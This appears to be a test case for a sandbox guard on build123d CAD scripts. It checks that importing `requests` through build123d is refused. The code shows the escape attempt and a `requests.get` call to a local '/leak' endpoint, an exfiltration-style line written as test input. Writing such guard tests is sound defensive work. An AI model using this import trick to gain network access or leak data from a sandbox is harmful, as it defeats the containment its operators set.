# tries: `from build123d import requests` - build123d imports `requests` (for its PCBWay
#   upload), which would give the script an HTTP client.
# contained: the guard refuses the non-public name and names the line.
# expect: guard
from build123d import Box, requests  # REFUSED
requests.get("http://127.0.0.1:{{PORT}}/leak")
result = Box(1, 1, 1)
